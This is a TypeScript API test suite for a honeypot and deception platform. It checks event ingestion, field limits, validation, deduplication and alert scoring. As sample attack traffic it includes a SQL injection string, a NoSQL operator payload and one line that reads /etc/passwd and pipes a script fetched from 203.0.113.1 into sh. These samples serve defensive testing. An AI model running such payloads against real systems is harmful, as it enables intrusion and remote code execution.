import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type Api,
  agentEvent,
  fieldsOf,
  honeypotLog,
  openApi,
  type TestNode,
  type TestUser,
} from '../support/api-client.ts';

interface Scored {
  status: string;
  log_id: string;
  event_id: string;
  ml_prediction: { attack_type: string; risk_score: number; confidence: number; is_anomaly: boolean };
  alert_created: boolean;
  event: { cut?: string[] };
}
interface Event {
  log_id: string;
  timestamp: string;
  payload: string;
  node_id: string;
  user_id: string;
  extra: Record<string, unknown> | null;
  agent: Record<string, unknown> | null;
}

async function open(t: Parameters<typeof openApi>[0]): Promise<{ api: Api; user: TestUser; node: TestNode }> {
  const api = await openApi(t);
  const user = await api.createUser();
  return { api, user, node: await api.createNode(user) };
}
const send = (api: Api, node: TestNode, path: string, body: unknown) =>
  api.call<Scored>('POST', path, { headers: { 'x-node-key': node.key }, body });
const stored = async (api: Api, user: TestUser, id: string) =>
  (await api.call<Event>('GET', `/api/events/${id}`, { headers: user.headers })).body;

const text = (length: number) => 'x'.repeat(length);

describe('POST /api/honeypot-log', () => {
  const path = '/api/honeypot-log';

  it('answers what was made of the event, which is then stored', async (t) => {
    const { api, user, node } = await open(t);
    const { status, body } = await send(api, node, path, honeypotLog);
    assert.equal(status, 200);
    assert.deepEqual(Object.keys(body).sort(), [
      'alert_created',
      'event',
      'log_id',
      'ml_prediction',
      'status',
    ]);
    assert.equal(body.status, 'success');
    assert.ok(Number.isInteger(body.ml_prediction.risk_score));
    const event = await stored(api, user, body.log_id);
    assert.equal(event.payload, honeypotLog.payload);
    assert.equal(event.node_id, node.id);
  });

  it('keeps fields to their limits, and says which were cut', async (t) => {
    const { api, user, node } = await open(t);
    const limits: Record<string, number> = { service: 50, activity: 100, payload: 10_000 };
    const longest = Object.fromEntries(Object.entries(limits).map(([name, max]) => [name, text(max)]));
    const whole = await send(api, node, path, { ...honeypotLog, ...longest });
    assert.equal(whole.status, 200);
    assert.equal(whole.body.event.cut, undefined);
    for (const [name, max] of Object.entries(limits)) {
      const { status, body } = await send(api, node, path, { ...honeypotLog, [name]: text(max + 1) });
      assert.equal(status, 200, name);
      assert.deepEqual(body.event.cut, [name]);
      const event = await stored(api, user, body.log_id);
      assert.equal(event.extra?.[`${name}_length`], max + 1);
    }
  });

  it('coerces nothing and names what is wrong or missing', async (t) => {
    const { api, user, node } = await open(t);
    const wrong: [string, object][] = [
      ...['service', 'source_ip', 'activity', 'timestamp'].flatMap((name): [string, object][] => [
        [name, { [name]: undefined }],
        [name, { [name]: null }],
        [name, { [name]: 5 }],
        [name, { [name]: ['x'] }],
      ]),
      ['payload', { payload: 5 }],
      ['payload', { payload: { $gt: '' } }],
      ['extra', { extra: 'text' }],
      ['extra', { extra: [] }],
      ['timestamp', { timestamp: 'yesterday' }],
      ['timestamp', { timestamp: '2026-13-45T00:00:00Z' }],
      ['event_id', { event_id: text(129) }],
    ];
    for (const [field, change] of wrong) {
      const { status, body } = await send(api, node, path, { ...honeypotLog, ...change });
      assert.equal(status, 422, JSON.stringify(change));
      assert.deepEqual(fieldsOf(body), [field]);
    }
    for (const body of ['[]', '"text"', 'null', '5'])
      assert.equal((await send(api, node, path, body)).status, 422, body);
    for (const body of ['{', '{"service":}', 'service=ssh', '{"a":1}}'])
      assert.equal((await send(api, node, path, body)).status, 400, body);
    assert.equal((await api.call('GET', '/api/stats', { headers: user.headers })).body.total_attacks, 0);
  });

  it('takes what real clients send: no payload, extra null, times with and without a zone', async (t) => {
    const { api, user, node } = await open(t);
    const { payload: _none, ...bare } = honeypotLog;
    for (const [timestamp, expected] of [
      ['2026-02-04T00:04:29.123456', '2026-02-04T00:04:29.123Z'],
      ['2026-02-04T00:04:29Z', '2026-02-04T00:04:29.000Z'],
      ['2026-02-04T02:04:29+02:00', '2026-02-04T00:04:29.000Z'],
    ]) {
      const { status, body } = await send(api, node, path, { ...bare, timestamp, extra: null });
      assert.equal(status, 200, timestamp);
      const event = await stored(api, user, body.log_id);
      assert.equal(event.timestamp, expected);
      assert.equal(event.payload, '');
    }
  });

  it('keeps unknown keys under extra and trusts none of them', async (t) => {
    const { api, user, node } = await open(t);
    const claims = {
      user_id: 'user-1',
      log_id: 'log-1',
      risk_score: 10,
      alert_created: true,
      state: 'done',
      pid: 7,
    };
    const { body } = await send(api, node, path, { ...honeypotLog, ...claims, extra: { session: 's1' } });
    const event = await stored(api, user, body.log_id);
    assert.equal(event.user_id, user.id);
    assert.notEqual(event.log_id, 'log-1');
    assert.deepEqual(event.extra, { ...claims, session: 's1' });
  });

  it('makes a new event each time, but for a repeated event_id, which gets the first answer', async (t) => {
    const { api, user, node } = await open(t);
    const total = async () =>
      (await api.call('GET', '/api/stats', { headers: user.headers })).body.total_attacks;
    const first = await send(api, node, path, honeypotLog);
    const second = await send(api, node, path, honeypotLog);
    assert.notEqual(first.body.log_id, second.body.log_id);
    const named = { ...honeypotLog, event_id: 'evt-1', payload: "' OR 1=1 --" };
    const original = await send(api, node, path, named);
    const repeat = await send(api, node, path, { ...named, payload: 'another' });
    assert.deepEqual(repeat.body, original.body);
    assert.equal(await total(), 3);
    const other = await api.createNode(user);
    assert.notEqual((await send(api, other, path, named)).body.log_id, original.body.log_id);
    assert.equal(await total(), 4);
    // Halves of characters, which no UTF-8 tells apart: two names all the same.
    for (const half of ['\ud800', '\udc01'])
      await send(api, node, path, { ...named, event_id: `evt-${half}` });
    await send(api, node, path, { ...named, event_id: 'evt-\ufffd' });
    assert.equal(await total(), 7);
    await send(api, node, path, { ...named, event_id: 'evt-\ud800' });
    assert.equal(await total(), 7);
  });

  it('makes an alert when the risk is greater than the threshold', async (t) => {
    const { api, user, node } = await open(t);
    const attack = {
      ...honeypotLog,
      service: 'http',
      activity: 'http request',
      payload:
        'GET /?x=1%27%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\r\n\r\n; cat /etc/passwd; wget http://203.0.113.1/x.sh -O- | sh',
    };
    const { body } = await send(api, node, path, attack);
    assert.equal(body.alert_created, body.ml_prediction.risk_score > 7);
    type Alert = Record<string, unknown>;
    const alerts = (await api.call<Alert[]>('GET', '/api/alerts', { headers: user.headers })).body;
    assert.equal(alerts.length, body.alert_created ? 1 : 0);
    const harmless = await send(api, node, path, { ...honeypotLog, activity: 'connection', payload: '' });
    assert.equal(harmless.body.alert_created, false);
  });
});

describe('POST /api/agent-alert', () => {
  const path = '/api/agent-alert';

  it('answers what was made of the event and keeps the decoy’s record of accesses', async (t) => {
    const { api, user, node } = await open(t);
    const { status, body } = await send(api, node, path, {
      ...agentEvent,
      process_name: 'explorer.exe',
      pid: 4711,
    });
    assert.equal(status, 200);
    assert.deepEqual(Object.keys(body).sort(), [
      'alert_created',
      'event',
      'event_id',
      'ml_prediction',
      'status',
    ]);
    const event = await stored(api, user, body.event_id);
    assert.deepEqual(event.extra, { process_name: 'explorer.exe', pid: 4711 });
    assert.equal(event.agent?.username, 'j.doe');
    await send(api, node, path, { ...agentEvent, timestamp: '2026-02-05T00:00:00Z' });
    type Decoy = { triggers_count: number; last_triggered: string };
    const decoys = (await api.call<Decoy[]>('GET', '/api/decoys', { headers: user.headers })).body;
    assert.equal(decoys.length, 1);
    assert.equal(decoys[0]?.triggers_count, 2);
    assert.equal(decoys[0]?.last_triggered, '2026-02-05T00:00:00.000Z');
  });

  it('keeps fields to their limits and names those that are missing', async (t) => {
    const { api, node } = await open(t);
    const limits: Record<string, number> = {
      hostname: 255,
      username: 100,
      file_accessed: 255,
      file_path: 4096,
      action: 50,
      severity: 20,
      alert_type: 100,
    };
    for (const [name, max] of Object.entries(limits)) {
      const { status, body } = await send(api, node, path, { ...agentEvent, [name]: text(max + 1) });
      assert.equal(status, 200, name);
      assert.deepEqual(body.event.cut, [name]);
      for (const value of [undefined, null, 5]) {
        const wrong = await send(api, node, path, { ...agentEvent, [name]: value });
        assert.equal(wrong.status, 422, `${name} ${value}`);
        assert.deepEqual(fieldsOf(wrong.body), [name]);
      }
    }
  });

  it('makes alerts in the contract’s terms: host name, endpoint_agent, file name', async (t) => {
    const { api, user, node } = await open(t);
    const { body } = await send(api, node, path, agentEvent);
    assert.equal(body.alert_created, true, `risk ${body.ml_prediction.risk_score}`);
    type Alert = Record<string, unknown>;
    const [alert] = (await api.call<Alert[]>('GET', '/api/recent-attacks', { headers: user.headers })).body;
    assert.match(String(alert?.alert_id), /^AGENT-20260204000429-/);
    assert.equal(alert?.source_ip, agentEvent.hostname);
    assert.equal(alert?.service, 'endpoint_agent');
    assert.equal(alert?.payload, agentEvent.file_accessed);
    assert.equal(alert?.related_decoy, agentEvent.file_path);
    const profile = await api.call('GET', `/api/attacker-profile/${agentEvent.hostname}`, {
      headers: user.headers,
    });
    assert.equal(profile.body.total_attacks, 1);
  });
});
